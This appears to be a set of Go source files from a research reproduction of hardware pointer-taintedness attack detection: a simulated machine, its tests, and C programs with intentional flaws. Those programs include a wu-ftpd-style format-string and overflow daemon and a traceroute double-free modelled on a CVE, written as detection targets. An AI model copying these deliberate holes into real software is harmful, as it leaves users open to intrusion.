			if (logged_in) do_cwd(conn, line + 4);
			else reply(conn, "530 Please login with USER and PASS.");
		} else if (strncmp(line, "STOR ", 5) == 0) {
			if (logged_in) do_stor(conn, line + 5);
			else reply(conn, "530 Please login with USER and PASS.");
		} else if (strncmp(line, "QUIT", 4) == 0) {
			reply(conn, "221 Goodbye.");
			return;
		} else {
			reply(conn, "500 Unknown command.");
		}
	}
}

int main() {
	int fd = socket();
	bind(fd, 21);
	listen(fd, 5);
	int conn = accept(fd);
	reply(conn, "220 FTP server (Version wu-2.6.0(60) Mon Nov 29 10:37:55 CST 2004) ready.");
	session(conn);
	return 0;
}
`

// WuFTPDPatched is the fixed daemon: SITE EXEC passes the command as data
// ("%s") instead of as the format string — the actual upstream fix shape —
// and CWD bounds its copy. The attack payloads that compromise WuFTPD are
// inert against it, under every policy.
const WuFTPDPatched = `
char __bss_pad[69632];
int logged_in = 0;
int uid = 1000;
char username[32];

void reply(int fd, char *msg) {
	fputs(msg, fd);
	fputs("\r\n", fd);
}

/* FIXED: the user text is an argument, never the format. */
void site_exec(int fd, char *cmd) {
	fprintf(fd, "200-%s", cmd);
	fputs("\r\n", fd);
	reply(fd, "200 (end of exec)");
}

/* FIXED: bounded copy. */
void do_cwd(int fd, char *path) {
	char dir[64];
	strncpy(dir, path, 63);
	dir[63] = 0;
	reply(fd, "250 CWD command successful");
}

void do_stor(int fd, char *path) {
	if (uid >= 100) {
		reply(fd, "550 Permission denied");
		return;
	}
	char content[256];
	if (readline(fd, content, 256) == -1) {
		reply(fd, "426 Transfer aborted");
		return;
	}
	int out = open(path, 0x241);
	write(out, content, strlen(content));
	close(out);
	reply(fd, "226 Transfer complete");
}

void session(int conn) {
	char line[512];
	while (readline(conn, line, 512) != -1) {
		if (strncmp(line, "USER ", 5) == 0) {
			strncpy(username, line + 5, 31);
			reply(conn, "331 Password required for user1 .");
		} else if (strncmp(line, "PASS ", 5) == 0) {
			logged_in = 1;
			uid = 1000;
			reply(conn, "230 User user1 logged in.");
		} else if (strncmp(line, "SITE EXEC ", 10) == 0) {
			if (logged_in) site_exec(conn, line + 10);
			else reply(conn, "530 Please login with USER and PASS.");
		} else if (strncmp(line, "CWD ", 4) == 0) {
			if (logged_in) do_cwd(conn, line + 4);
			else reply(conn, "530 Please login with USER and PASS.");
		} else if (strncmp(line, "STOR ", 5) == 0) {
			if (logged_in) do_stor(conn, line + 5);
			else reply(conn, "530 Please login with USER and PASS.");
		} else if (strncmp(line, "QUIT", 4) == 0) {
			reply(conn, "221 Goodbye.");
			return;
		} else {
			reply(conn, "500 Unknown command.");
		}
	}
}

int main() {
	int fd = socket();
	bind(fd, 21);
	listen(fd, 5);
	int conn = accept(fd);
	reply(conn, "220 FTP server (Version wu-2.6.1(1) patched) ready.");
	session(conn);
	return 0;
}
`
