package progs

import (
	"fmt"
	"math/rand"
	"strings"
)

// SpecInput generates the deterministic reference input for a SPEC
// analogue workload, sized by scale (1 = the default test case). The
// generators are seeded constants, so every run of Table 3 sees identical
// bytes — like SPEC's fixed input sets.
func SpecInput(name string, scale int) []byte {
	if scale < 1 {
		scale = 1
	}
	switch name {
	case "bzip2s":
		return genMixedBytes(3000*scale, 11)
	case "gccs":
		return genExpressions(60*scale, 13)
	case "gzips":
		return genCompressibleText(6000*scale, 17)
	case "mcfs":
		return genGraph(96, 600*scale, 19)
	case "parsers":
		return genProse(4000*scale, 23)
	case "vprs":
		return genNetlist(120, 120*scale, 29)
	}
	return nil
}

// genMixedBytes emits bytes with runs and skewed symbol frequencies (good
// MTF/RLE fodder).
func genMixedBytes(n int, seed int64) []byte {
	rng := rand.New(rand.NewSource(seed))
	out := make([]byte, 0, n)
	for len(out) < n {
		sym := byte(rng.Intn(64))
		if rng.Intn(4) == 0 {
			sym = byte(rng.Intn(256))
		}
		run := 1 + rng.Intn(6)
		for i := 0; i < run && len(out) < n; i++ {
			out = append(out, sym)
		}
	}
	return out
}

// genExpressions emits one arithmetic expression per line.
func genExpressions(lines int, seed int64) []byte {
	rng := rand.New(rand.NewSource(seed))
	var b strings.Builder
	var gen func(depth int)
	gen = func(depth int) {
		if depth == 0 || rng.Intn(3) == 0 {
			fmt.Fprintf(&b, "%d", rng.Intn(500))
			return
		}
		b.WriteByte('(')
		gen(depth - 1)
		b.WriteByte(" +-*/"[1+rng.Intn(4)])
		gen(depth - 1)
		b.WriteByte(')')
	}
	for i := 0; i < lines; i++ {
		gen(3)
		b.WriteByte('\n')
	}
	return []byte(b.String())
}

// genCompressibleText emits text with repeated phrases (LZ77 fodder).
func genCompressibleText(n int, seed int64) []byte {
	rng := rand.New(rand.NewSource(seed))
	phrases := []string{
		"the quick brown fox ", "pointer taintedness ", "memory corruption ",
		"security exception ", "buffer overflow ", "format string ",
	}
	var b strings.Builder
	for b.Len() < n {
		b.WriteString(phrases[rng.Intn(len(phrases))])
		if rng.Intn(5) == 0 {
			fmt.Fprintf(&b, "%d ", rng.Intn(10000))
		}
	}
	return []byte(b.String()[:n])
}

// genGraph emits "u v cost" arc lines over nodes in [0, nodes).
func genGraph(nodes, arcs int, seed int64) []byte {
	rng := rand.New(rand.NewSource(seed))
	var b strings.Builder
	// A backbone guaranteeing reachability, then random arcs.
	for v := 1; v < nodes; v++ {
		fmt.Fprintf(&b, "%d %d %d\n", rng.Intn(v), v, 1+rng.Intn(50))
	}
	for i := nodes - 1; i < arcs; i++ {
		fmt.Fprintf(&b, "%d %d %d\n", rng.Intn(nodes), rng.Intn(nodes), 1+rng.Intn(100))
	}
	return []byte(b.String())
}

// genProse emits sentence-shaped word text.
func genProse(n int, seed int64) []byte {
	rng := rand.New(rand.NewSource(seed))
	words := []string{
		"tainted", "pointer", "alert", "memory", "register", "stack",
		"heap", "format", "buffer", "attack", "daemon", "packet",
		"system", "value", "address", "input",
	}
	var b strings.Builder
	for b.Len() < n {
		k := 4 + rng.Intn(9)
		for i := 0; i < k; i++ {
			b.WriteString(words[rng.Intn(len(words))])
			if i < k-1 {
				b.WriteByte(' ')
			}
		}
		b.WriteString(". ")
	}
	return []byte(b.String()[:n])
}

// genNetlist emits "a b" net lines over cells in [0, cells).
func genNetlist(cells, nets int, seed int64) []byte {
	rng := rand.New(rand.NewSource(seed))
	var b strings.Builder
	for i := 0; i < nets; i++ {
		fmt.Fprintf(&b, "%d %d\n", rng.Intn(cells), rng.Intn(cells))
	}
	return []byte(b.String())
}
