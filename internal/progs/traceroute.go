package progs

// Traceroute models the LBNL traceroute heap corruption (SecurityFocus BID
// 1739, CVE-2000-0968): parsing "-g x -g y" calls savestr(), which manages
// its own preallocated pool, and free()s the pool after each gateway —
// so the second -g both writes attacker bytes over the freed chunk's
// fd/bk links and triggers a second free() of the same chunk. The
// double-free consolidation then dereferences command-line bytes as a
// pointer (the paper's alert: a store inside free() on a tainted word
// built from the argument text).
const Traceroute = `
char *savestr_pool;
int savestr_off;

/* savestr: amortizes malloc by carving strings out of one pool — the
   LBNL utility routine at the root of the CVE. */
char *savestr(char *s) {
	if (!savestr_pool) {
		savestr_pool = malloc(64);
		savestr_off = 0;
	}
	char *dst = savestr_pool + savestr_off;
	strcpy(dst, s);
	savestr_off = savestr_off + strlen(s) + 1;
	return dst;
}

char *gateways[8];
int ngateways;

int main(int argc, char **argv) {
	for (int i = 1; i < argc; i++) {
		if (strcmp(argv[i], "-g") == 0) {
			i++;
			if (i >= argc) {
				puts("usage: traceroute [-g gateway] host");
				return 2;
			}
			char *g = savestr(argv[i]);
			gateways[ngateways] = g;
			ngateways = ngateways + 1;
			/* BUG: releases savestr's pool after each gateway; the
			   second -g frees the same chunk again. */
			free(savestr_pool);
		}
	}
	printf("traceroute with %d gateway(s)\n", ngateways);
	return 0;
}
`
