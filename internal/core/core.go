// Package core is the library's public face: it assembles the
// pointer-taintedness machine — CPU with per-byte taint datapath, cache
// hierarchy, kernel with taint-initializing system calls, simulated
// network — and compiles programs onto it from C-subset or assembly
// source. It is the API a downstream user builds on; the internal
// packages (isa, taint, mem, cache, cpu, asm, cc, rtl, kernel, netsim)
// remain directly usable for finer control.
//
// Quickstart:
//
//	m, err := core.BuildC(core.Config{}, `
//	    int main() { puts("hello"); return 0; }
//	`)
//	if err != nil { ... }
//	err = m.Run()          // nil on a clean exit
//	fmt.Print(m.Stdout())  // "hello\n"
//
// Security monitoring:
//
//	m, _ := core.BuildC(core.Config{Policy: core.PointerTaintedness}, src)
//	m.SetStdin([]byte(attackPayload))
//	var alert *core.SecurityAlert
//	if errors.As(m.Run(), &alert) {
//	    fmt.Println("attack stopped:", alert)
//	}
package core

import (
	"errors"
	"fmt"
	"io"

	"repro/internal/analysis"
	"repro/internal/asm"
	"repro/internal/cache"
	"repro/internal/cc"
	"repro/internal/cpu"
	"repro/internal/kernel"
	"repro/internal/mem"
	"repro/internal/metrics"
	"repro/internal/netsim"
	"repro/internal/rtl"
	"repro/internal/taint"
)

// Policy re-exports the detection policies.
type Policy = taint.Policy

// Detection policies.
const (
	// Off tracks taint but never raises alerts.
	Off = taint.PolicyOff
	// ControlDataOnly alerts only on tainted control-transfer targets —
	// the Minos / Secure Program Execution baseline.
	ControlDataOnly = taint.PolicyControlDataOnly
	// PointerTaintedness alerts on every dereference of a tainted word —
	// the paper's mechanism and the default.
	PointerTaintedness = taint.PolicyPointerTaintedness
)

// SecurityAlert re-exports the machine's security exception.
type SecurityAlert = cpu.SecurityAlert

// Fault re-exports non-security machine faults.
type Fault = cpu.Fault

// StepBudgetError re-exports the runaway-guest watchdog trip.
type StepBudgetError = cpu.StepBudgetError

// GuestFault re-exports host panics recovered at the machine boundary.
type GuestFault = cpu.GuestFault

// MemLimitError re-exports the guest resident-memory cap trip.
type MemLimitError = mem.LimitError

// ExitError re-exports nonzero-status termination.
type ExitError = cpu.ExitError

// BlockedError re-exports the cooperative I/O wait state.
type BlockedError = kernel.BlockedError

// Rules re-exports the Table 1 propagation-rule configuration (zero value:
// all paper rules active).
type Rules = taint.Propagator

// Config assembles a machine.
type Config struct {
	// Policy defaults to PointerTaintedness.
	Policy Policy
	// Rules configures Table 1 rule ablations.
	Rules Rules
	// WithCache interposes the L1/L2 hierarchy (taint bits ride the cache
	// lines). Off by default: flat memory is faster to simulate.
	WithCache bool
	// Args are the guest's command-line arguments (argv[1:]; argv[0] is
	// the program name). Argument bytes are tainted, per the paper.
	Args []string
	// Env is the guest's environment ("K=V"); also tainted.
	Env []string
	// ProgName is argv[0]; defaults to "a.out".
	ProgName string
	// Budget bounds the instruction count per Run call (default 200M).
	Budget uint64
	// MemLimit caps resident guest memory in bytes (default 256 MiB;
	// negative disables the cap). A guest growing past it gets a
	// *MemLimitError from Run instead of consuming the host.
	MemLimit int
	// NoLibc omits the bundled runtime library when building C sources
	// (for fully freestanding programs).
	NoLibc bool
	// Reference forces the classic one-instruction Step interpreter
	// instead of the predecoded basic-block fast path (the default). The
	// two are behaviourally identical; the reference path exists for
	// cross-checking and debugging.
	Reference bool
	// NoSuperblocks disables the trace-superblock tier of the fast path
	// (hot clean loops fused into straight-line specialized traces; see
	// internal/cpu/superblock.go). Behaviour is identical either way —
	// the tier deoptimizes to the basic-block path whenever any of its
	// assumptions fail — so this exists for measurement and debugging,
	// like Reference. Implied by Reference.
	NoSuperblocks bool
	// NoStatic skips the boot-time static may-taint analysis
	// (internal/analysis) whose provably-clean facts let the fast path
	// drop runtime taint checks. The analysis adds a few milliseconds to
	// boot and changes no observable behaviour; disable it to measure
	// the purely dynamic machine.
	NoStatic bool
	// Provenance enables taint-provenance tracking: every external input
	// byte (read/recv, argv, env) gets an origin label, Table 1
	// propagation merges labels, and a SecurityAlert carries a chain
	// naming the exact input bytes that made the dereferenced value
	// tainted. Requires flat memory (incompatible with WithCache).
	Provenance bool
	// TraceEvents attaches a structured trace-event ring buffer of the
	// given capacity (negative selects the default, 4096). Events record
	// taint births, pointer-taint propagation, dereference checks,
	// alerts, and syscalls; export them with ExportEventsJSONL or
	// ExportChromeTrace.
	TraceEvents int
}

// Machine is a ready-to-run guest.
type Machine struct {
	image     *asm.Image
	kern      *kernel.Kernel
	cpu       *cpu.CPU
	mem       *mem.Memory
	caches    *cache.Hierarchy
	budget    uint64
	reference bool
}

// BuildC compiles C-subset sources (linked with the runtime library) and
// boots them.
func BuildC(cfg Config, sources ...string) (*Machine, error) {
	units := make([]cc.Unit, len(sources))
	for i, src := range sources {
		units[i] = cc.Unit{Name: fmt.Sprintf("src%d.c", i), Src: src}
	}
	var im *asm.Image
	var err error
	if cfg.NoLibc {
		var gen asm.Source
		gen, err = cc.CompileProgram(units...)
		if err == nil {
			im, err = asm.Assemble(asm.Source{Name: "crt0.s", Text: rtl.Crt0}, gen)
		}
	} else {
		im, err = rtl.Build(units...)
	}
	if err != nil {
		return nil, err
	}
	return BootImage(cfg, im)
}

// BuildASM assembles raw assembly sources and boots them.
func BuildASM(cfg Config, sources ...string) (*Machine, error) {
	srcs := make([]asm.Source, len(sources))
	for i, s := range sources {
		srcs[i] = asm.Source{Name: fmt.Sprintf("src%d.s", i), Text: s}
	}
	im, err := asm.Assemble(srcs...)
	if err != nil {
		return nil, err
	}
	return BootImage(cfg, im)
}

// BootImage boots a pre-assembled image. Boot-time panics (an image whose
// load trips the memory cap, say) are recovered into errors.
func BootImage(cfg Config, im *asm.Image) (machine *Machine, err error) {
	defer func() {
		if r := recover(); r != nil {
			machine, err = nil, fmt.Errorf("boot: %v", r)
		}
	}()
	k := kernel.New()
	physical := mem.New()
	switch {
	case cfg.MemLimit > 0:
		physical.SetResidentLimit(cfg.MemLimit)
	case cfg.MemLimit == 0:
		physical.SetResidentLimit(DefaultMemLimit)
	}
	var bus cpu.Bus = physical
	var hier *cache.Hierarchy
	if cfg.WithCache {
		var err error
		hier, err = cache.NewDefaultHierarchy(physical)
		if err != nil {
			return nil, err
		}
		bus = hier
	}
	c := cpu.New(cpu.Config{
		Bus:     bus,
		Policy:  cfg.Policy,
		Prop:    cfg.Rules,
		Handler: k,
		Image:   im,
	})
	c.LoadImage(physical, im)
	k.SetBreak(im.DataEnd)
	// Provenance must be live before SetArgs so the boot-time taint
	// sources (argv/env bytes) get origin labels too.
	if cfg.Provenance {
		if err := c.EnableProvenance(); err != nil {
			return nil, err
		}
	}
	if cfg.TraceEvents != 0 {
		cap := cfg.TraceEvents
		if cap < 0 {
			cap = 0 // EnableEvents picks the default
		}
		c.EnableEvents(cap)
	}
	name := cfg.ProgName
	if name == "" {
		name = "a.out"
	}
	k.SetArgs(c, append([]string{name}, cfg.Args...), cfg.Env)
	if cfg.NoSuperblocks {
		c.SetSuperblocks(false)
	}
	if !cfg.Reference && !cfg.NoStatic {
		// Static provably-clean facts let the fast path skip runtime
		// taint checks; the reference interpreter never consumes them, so
		// it stays an independent oracle. A bailed or failed analysis
		// just leaves the machine purely dynamic.
		if res, err := analysis.Analyze(im, cfg.Rules); err == nil && !res.Bailed {
			c.SetStaticFacts(res.Facts())
		}
	}
	budget := cfg.Budget
	if budget == 0 {
		budget = DefaultBudget
	}
	return &Machine{
		image: im, kern: k, cpu: c, mem: physical, caches: hier,
		budget:    budget,
		reference: cfg.Reference,
	}, nil
}

// Run executes until the guest exits, blocks on I/O, faults, or an alert
// fires. nil means a clean zero-status exit; *BlockedError means the guest
// awaits input (feed it and Run again); *SecurityAlert is a detection.
func (m *Machine) Run() error {
	if m.reference {
		return m.cpu.Run(m.budget)
	}
	return m.cpu.RunFast(m.budget)
}

// RunToBlock runs and requires the guest to block on I/O (servers).
func (m *Machine) RunToBlock() error {
	err := m.Run()
	var blocked *BlockedError
	if errors.As(err, &blocked) {
		return nil
	}
	if err == nil {
		return errors.New("guest exited instead of blocking")
	}
	return err
}

// SetStdin preloads the guest's standard input (tainted on read).
func (m *Machine) SetStdin(data []byte) { m.kern.SetStdin(data) }

// Stdout returns everything the guest wrote to fd 1.
func (m *Machine) Stdout() string { return m.kern.Stdout() }

// Stderr returns everything the guest wrote to fd 2.
func (m *Machine) Stderr() string { return m.kern.Stderr() }

// WriteFile seeds the guest filesystem.
func (m *Machine) WriteFile(path string, data []byte) {
	m.kern.FS.WriteFile(path, data)
}

// ReadFile reads back a guest file.
func (m *Machine) ReadFile(path string) ([]byte, bool) {
	return m.kern.FS.ReadFile(path)
}

// Connect opens a client connection to a listening guest port.
func (m *Machine) Connect(port uint16) (*netsim.Endpoint, error) {
	return m.kern.Net.Connect(port)
}

// Transact sends input, resumes the guest until it blocks again (or
// terminates), and returns the guest's output on the connection. err is
// nil while the guest merely awaits more input.
func (m *Machine) Transact(ep *netsim.Endpoint, input string) (string, error) {
	if input != "" {
		ep.SendString(input)
	}
	err := m.Run()
	var blocked *BlockedError
	if errors.As(err, &blocked) {
		err = nil
	}
	return ep.RecvString(), err
}

// Stats returns execution counters.
func (m *Machine) Stats() cpu.Stats { return m.cpu.Stats() }

// Pipeline returns the timing model's counters.
func (m *Machine) Pipeline() cpu.PipelineStats { return m.cpu.Pipe() }

// CacheStats returns (L1, L2) counters; zero values without WithCache.
func (m *Machine) CacheStats() (cache.Stats, cache.Stats) {
	if m.caches == nil {
		return cache.Stats{}, cache.Stats{}
	}
	return m.caches.L1Stats(), m.caches.L2Stats()
}

// InputStats returns the kernel's taint-initialization counters.
func (m *Machine) InputStats() kernel.InputStats { return m.kern.Stats() }

// Symbols exposes the program's symbol table.
func (m *Machine) Symbols() map[string]uint32 { return m.image.Symbols }

// TaintedAt reports how many of the n bytes at addr are tainted (flushes
// caches first so the view is coherent).
func (m *Machine) TaintedAt(addr uint32, n int) int {
	if m.caches != nil {
		m.caches.FlushAll()
	}
	return m.mem.CountTainted(addr, n)
}

// Exited reports termination status.
func (m *Machine) Exited() (bool, int32) { return m.cpu.Halted() }

// EnableProfile turns on per-opcode instruction-mix counting; call before
// Run.
func (m *Machine) EnableProfile() { m.cpu.EnableProfile() }

// SetCovMap attaches a branch-edge coverage map (nil detaches); call
// before Run. Both engines record identical edges into it.
func (m *Machine) SetCovMap(cm *cpu.CovMap) { m.cpu.SetCovMap(cm) }

// SetTracer streams a disassembly trace of the first limit instructions
// (0 = unlimited) to w.
func (m *Machine) SetTracer(w io.Writer, limit uint64) { m.cpu.SetTracer(w, limit) }

// Profile returns the instruction mix in descending count order.
func (m *Machine) Profile() []cpu.OpcodeCount { return m.cpu.Profile() }

// Metrics aggregates every subsystem's counters into one metrics
// snapshot for text/JSON exposition.
func (m *Machine) Metrics() metrics.Snapshot {
	r := metrics.New()
	m.cpu.FillMetrics(r)
	m.mem.FillMetrics(r)
	m.kern.FillMetrics(r)
	if m.caches != nil {
		m.caches.FillMetrics(r)
	}
	return r.Snapshot()
}

// Events returns the structured trace events recorded so far (oldest
// first; the ring keeps only the most recent Config.TraceEvents entries).
// Empty without Config.TraceEvents.
func (m *Machine) Events() []cpu.Event {
	if s := m.cpu.Events(); s != nil {
		return s.Events()
	}
	return nil
}

// EventsDropped reports how many trace events the ring overwrote.
func (m *Machine) EventsDropped() uint64 {
	if s := m.cpu.Events(); s != nil {
		return s.Dropped()
	}
	return 0
}

// ExportEventsJSONL writes the recorded trace events to w, one JSON
// object per line.
func (m *Machine) ExportEventsJSONL(w io.Writer) error {
	return cpu.WriteEventsJSONL(w, m.Events())
}

// ExportChromeTrace writes the recorded trace events as a Chrome
// trace_event document loadable in chrome://tracing or Perfetto.
func (m *Machine) ExportChromeTrace(w io.Writer) error {
	return cpu.WriteChromeTrace(w, m.Events())
}
