package core

import (
	"errors"
	"strings"
	"testing"
)

func TestQuickstartHello(t *testing.T) {
	m, err := BuildC(Config{}, `int main() { puts("hello"); return 0; }`)
	if err != nil {
		t.Fatal(err)
	}
	if err := m.Run(); err != nil {
		t.Fatal(err)
	}
	if m.Stdout() != "hello\n" {
		t.Errorf("stdout = %q", m.Stdout())
	}
	if done, code := m.Exited(); !done || code != 0 {
		t.Errorf("exit state = %v %d", done, code)
	}
}

func TestDetectionThroughPublicAPI(t *testing.T) {
	src := `
		void vuln() { char buf[8]; scanstr(buf); }
		int main() { vuln(); return 0; }
	`
	m, err := BuildC(Config{Policy: PointerTaintedness}, src)
	if err != nil {
		t.Fatal(err)
	}
	m.SetStdin([]byte(strings.Repeat("a", 24)))
	var alert *SecurityAlert
	if !errors.As(m.Run(), &alert) {
		t.Fatal("no alert")
	}
	if alert.Value != 0x61616161 {
		t.Errorf("value = %#x", alert.Value)
	}
	if m.Stats().Alerts != 1 {
		t.Errorf("alert count = %d", m.Stats().Alerts)
	}
}

func TestPolicyOffThroughPublicAPI(t *testing.T) {
	src := `
		void vuln() { char buf[8]; scanstr(buf); }
		int main() { vuln(); return 0; }
	`
	m, err := BuildC(Config{Policy: Off}, src)
	if err != nil {
		t.Fatal(err)
	}
	m.SetStdin([]byte(strings.Repeat("a", 24)))
	var f *Fault
	if !errors.As(m.Run(), &f) {
		t.Error("unprotected overflow should crash on the hijacked return")
	}
}

func TestArgsEnvAndFiles(t *testing.T) {
	m, err := BuildC(Config{
		Args:     []string{"-v", "input.txt"},
		Env:      []string{"HOME=/root"},
		ProgName: "tool",
	}, `
		int main(int argc, char **argv, char **envp) {
			printf("%d %s %s %s\n", argc, argv[0], argv[1], envp[0]);
			int fd = open("/data", 0);
			char buf[16];
			int n = read(fd, buf, 15);
			buf[n] = 0;
			printf("file=%s\n", buf);
			return 0;
		}
	`)
	if err != nil {
		t.Fatal(err)
	}
	m.WriteFile("/data", []byte("seeded"))
	if err := m.Run(); err != nil {
		t.Fatal(err)
	}
	want := "3 tool -v HOME=/root\nfile=seeded\n"
	if m.Stdout() != want {
		t.Errorf("stdout = %q, want %q", m.Stdout(), want)
	}
	if got, ok := m.ReadFile("/data"); !ok || string(got) != "seeded" {
		t.Errorf("ReadFile = %q %v", got, ok)
	}
}

func TestServerTransactAPI(t *testing.T) {
	m, err := BuildC(Config{}, `
		int main() {
			int fd = socket();
			bind(fd, 7070);
			listen(fd, 1);
			int c = accept(fd);
			char buf[64];
			int n = recv(c, buf, 63, 0);
			buf[n] = 0;
			send(c, "you said: ", 10, 0);
			send(c, buf, n, 0);
			return 0;
		}
	`)
	if err != nil {
		t.Fatal(err)
	}
	if err := m.RunToBlock(); err != nil {
		t.Fatal(err)
	}
	ep, err := m.Connect(7070)
	if err != nil {
		t.Fatal(err)
	}
	out, err := m.Transact(ep, "ping")
	if err != nil {
		t.Fatal(err)
	}
	if out != "you said: ping" {
		t.Errorf("out = %q", out)
	}
}

func TestBuildASM(t *testing.T) {
	m, err := BuildASM(Config{}, `
	.text
	.entry _start
	_start:
		li $a0, 42
		li $v0, 1
		syscall
	`)
	if err != nil {
		t.Fatal(err)
	}
	var ee *ExitError
	if err := m.Run(); !errors.As(err, &ee) || ee.Code != 42 {
		t.Errorf("run = %v", err)
	}
}

func TestCacheAndTaintIntrospection(t *testing.T) {
	m, err := BuildC(Config{WithCache: true}, `
		char buf[32];
		int main() {
			int n = read(0, buf, 32);
			return n;
		}
	`)
	if err != nil {
		t.Fatal(err)
	}
	m.SetStdin([]byte("tainted-bytes"))
	if err := m.Run(); err != nil {
		var ee *ExitError
		if !errors.As(err, &ee) {
			t.Fatal(err)
		}
	}
	addr := m.Symbols()["buf"]
	if addr == 0 {
		t.Fatal("buf symbol missing")
	}
	if got := m.TaintedAt(addr, 13); got != 13 {
		t.Errorf("tainted bytes = %d, want 13", got)
	}
	l1, l2 := m.CacheStats()
	if l1.Hits == 0 || l2.Misses == 0 {
		t.Errorf("cache stats empty: %+v %+v", l1, l2)
	}
	// 13 stdin bytes plus argv[0] ("a.out"), which is tainted at startup.
	if got := m.InputStats().TaintedBytes; got != 18 {
		t.Errorf("input stats = %+v, want 18 tainted bytes", m.InputStats())
	}
	if m.Pipeline().Cycles == 0 {
		t.Error("pipeline cycles = 0")
	}
}

func TestNoLibcBuild(t *testing.T) {
	m, err := BuildC(Config{NoLibc: true}, `
		int main() { return 7; }
	`)
	if err != nil {
		t.Fatal(err)
	}
	var ee *ExitError
	if err := m.Run(); !errors.As(err, &ee) || ee.Code != 7 {
		t.Errorf("run = %v", err)
	}
}

func TestBuildErrors(t *testing.T) {
	if _, err := BuildC(Config{}, "int main( {"); err == nil {
		t.Error("bad C accepted")
	}
	if _, err := BuildASM(Config{}, "bogus instruction"); err == nil {
		t.Error("bad asm accepted")
	}
}

func TestCacheMissesRaiseCPI(t *testing.T) {
	// A strided sweep over 1MB thrashes both cache levels; the modeled
	// machine with the hierarchy must report a higher CPI than the same
	// program on ideal flat memory.
	src := `
		int main() {
			char *p = malloc(1048576);
			int s = 0;
			for (int pass = 0; pass < 2; pass++) {
				for (int i = 0; i < 1048576; i += 64) s += p[i];
			}
			return s & 1;
		}
	`
	run := func(withCache bool) (float64, uint64) {
		m, err := BuildC(Config{WithCache: withCache, Budget: 1 << 32}, src)
		if err != nil {
			t.Fatal(err)
		}
		runErr := m.Run()
		var ee *ExitError
		if runErr != nil && !errors.As(runErr, &ee) {
			t.Fatal(runErr)
		}
		p := m.Pipeline()
		return p.CPI(m.Stats().Instructions), p.MemPenalties
	}
	flatCPI, flatPen := run(false)
	cacheCPI, cachePen := run(true)
	if flatPen != 0 {
		t.Errorf("flat memory charged %d penalty cycles", flatPen)
	}
	if cachePen == 0 {
		t.Error("hierarchy charged no penalty cycles on a thrashing sweep")
	}
	if cacheCPI <= flatCPI {
		t.Errorf("CPI with cache %.3f not above flat %.3f", cacheCPI, flatCPI)
	}
}
