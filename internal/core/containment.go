package core

import (
	"flag"
	"time"
)

// The containment envelope: every limit that stops a hostile or runaway
// guest from becoming a host-level event. The defaults live here — and
// only here — so ptrun, ptattack, ptfault, ptfuzz, and ptserve contain
// guests identically instead of each CLI hard-coding its own numbers.
const (
	// DefaultBudget bounds one Run call's retired instructions; the
	// watchdog trips it into a *StepBudgetError.
	DefaultBudget = 200_000_000
	// DefaultMemLimit caps resident guest memory (256 MiB — far above any
	// corpus program's footprint, low enough that a runaway guest cannot
	// exhaust the host). Tripping it surfaces as *MemLimitError.
	DefaultMemLimit = 256 << 20
	// DefaultDeadline is the wall-clock backstop per session attempt,
	// behind the deterministic budgets above.
	DefaultDeadline = 30 * time.Second
	// DefaultRetries is how many extra attempts a panicked or failed
	// session gets before its error sticks.
	DefaultRetries = 1
	// DefaultBackoff is the base delay before a retry (exponential with
	// seeded jitter).
	DefaultBackoff = 100 * time.Millisecond
	// DefaultBackoffMax caps one backoff delay.
	DefaultBackoffMax = 2 * time.Second
)

// Containment is the shared guest-containment configuration. Budget and
// MemLimit bound the machine deterministically (identical trip points on
// every engine); Deadline is the nondeterministic wall-clock backstop
// behind them; Retries/Backoff/BackoffMax shape the campaign pool guard's
// retry policy for transient host-side failures.
type Containment struct {
	// Budget bounds retired guest instructions per Run (0 = DefaultBudget).
	Budget uint64
	// MemLimit caps resident guest memory in bytes (0 = DefaultMemLimit,
	// negative disables the cap).
	MemLimit int
	// Deadline is the wall-clock bound per session attempt (0 = none).
	Deadline time.Duration
	// Retries is the extra attempts a failed session gets.
	Retries int
	// Backoff is the base retry delay (0 = immediate retries).
	Backoff time.Duration
	// BackoffMax caps one backoff delay (0 = 32*Backoff).
	BackoffMax time.Duration
}

// DefaultContainment returns the one containment envelope the CLIs share.
func DefaultContainment() Containment {
	return Containment{
		Budget:     DefaultBudget,
		MemLimit:   DefaultMemLimit,
		Deadline:   DefaultDeadline,
		Retries:    DefaultRetries,
		Backoff:    DefaultBackoff,
		BackoffMax: DefaultBackoffMax,
	}
}

// AddFlags registers the containment flags on fs, bound to c, with c's
// current values as defaults — so every CLI exposes the same knobs with
// the same names and semantics.
func (c *Containment) AddFlags(fs *flag.FlagSet) {
	fs.Uint64Var(&c.Budget, "budget", c.Budget, "guest instruction budget per run (watchdog trip)")
	fs.IntVar(&c.MemLimit, "mem-limit", c.MemLimit, "resident guest memory cap in bytes (negative = uncapped)")
	fs.DurationVar(&c.Deadline, "deadline", c.Deadline, "wall-clock backstop per session attempt (0 = none)")
	fs.IntVar(&c.Retries, "retries", c.Retries, "extra attempts after a panicked or failed session")
	fs.DurationVar(&c.Backoff, "backoff", c.Backoff, "base retry backoff, exponential with seeded jitter (0 = immediate)")
}

// Apply copies the machine-level limits onto a Config.
func (c Containment) Apply(cfg Config) Config {
	cfg.Budget = c.Budget
	cfg.MemLimit = c.MemLimit
	return cfg
}
