package asm

import "testing"

// FuzzAssemble checks the assembler never panics on arbitrary source.
func FuzzAssemble(f *testing.F) {
	seeds := []string{
		"main: nop\n",
		".data\nx: .word 1, 2, 3\n.text\nla $t0, x\nlw $t1, 0($t0)\n",
		".asciiz \"string with \\x00 escape\"",
		"label-without-colon nop",
		"add $t0, $t1",
		"li $t0, 0xFFFFFFFF\nli $t1, -1\n",
		".align 31\n",
		".space 4294967295\n",
		"beq $t0, $t1, nowhere\n",
		": :: :::\n",
		"\x00\x01\x02",
		".entry missing\nmain: nop\n",
	}
	for _, s := range seeds {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, src string) {
		im, err := AssembleString(src)
		if err == nil {
			// A successful assembly must produce a loadable image.
			if len(im.Segments) != 2 {
				t.Errorf("image has %d segments", len(im.Segments))
			}
			if im.Symbols == nil {
				t.Error("nil symbol table")
			}
		}
	})
}
