package asm

import (
	"encoding/binary"
	"strings"

	"repro/internal/isa"
)

// emit writes the pass-2 bytes for one statement into out (whose length is
// the statement's pass-1 size). addr is the statement's absolute address.
func (a *assembler) emit(st stmt, out []byte, addr uint32) error {
	if strings.HasPrefix(st.op, ".") {
		return a.emitDirective(st, out)
	}
	words, err := a.expand(st, addr)
	if err != nil {
		return err
	}
	if uint32(len(words)*4) != st.size {
		return errf(st.file, st.line, "internal: %s sized %d bytes, emitted %d",
			st.op, st.size, len(words)*4)
	}
	for i, w := range words {
